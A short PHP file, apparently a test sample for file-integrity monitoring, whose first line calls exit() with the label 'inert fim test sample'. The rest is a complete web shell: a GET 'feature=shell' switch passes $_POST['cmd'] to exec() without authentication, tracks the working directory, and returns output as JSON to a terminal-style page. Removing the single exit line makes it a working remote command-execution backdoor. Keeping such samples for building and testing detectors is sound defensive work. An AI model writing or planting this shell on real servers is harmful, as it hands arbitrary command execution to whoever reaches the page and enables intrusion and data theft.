<?php exit('inert fim test sample'); ?>
<?php
function featureShell($cmd, $cwd) {
    $stdout = array();
    if (preg_match("/^\s*cd\s*$/", $cmd)) {
        // go home
    } elseif (preg_match("/^\s*cd\s+(.+)\s*(2>&1)?$/", $cmd)) {
        chdir($cwd);
        preg_match("/^\s*cd\s+([^\s]+)\s*(2>&1)?$/", $cmd, $match);
        chdir($match[1]);
    } else {
        chdir($cwd);
        exec($cmd, $stdout);
    }
    return array("stdout" => $stdout, "cwd" => getcwd());
}
if (isset($_GET["feature"])) {
    $response = NULL;
    switch ($_GET["feature"]) {
        case "shell":
            $cmd = $_POST['cmd'];
            if (!preg_match('/2>/', $cmd)) { $cmd .= ' 2>&1'; }
            $response = featureShell($cmd, $_POST["cwd"]);
            break;
    }
    header("Content-Type: application/json");
    echo json_encode($response);
    die();
}
?>
<!DOCTYPE html><html><body><div id="shell"></div><script>/* terminal UI */</script></body></html>
